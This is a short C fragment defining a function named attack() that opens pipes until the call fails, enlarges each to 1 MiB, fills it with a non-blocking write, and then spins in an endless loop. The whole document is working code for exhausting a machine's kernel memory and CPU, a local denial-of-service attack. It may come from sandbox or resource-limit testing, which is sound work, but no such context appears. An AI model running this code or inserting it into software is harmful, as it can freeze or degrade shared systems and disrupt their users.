#include <fcntl.h>
#include <unistd.h>

static char piece[1 << 20];

void attack() {
  for (int ends[2]; pipe(ends) == 0;) {
    fcntl(ends[1], F_SETPIPE_SZ, sizeof piece);
    fcntl(ends[1], F_SETFL, O_NONBLOCK);
    write(ends[1], piece, sizeof piece);
  }
  for (;;);
}
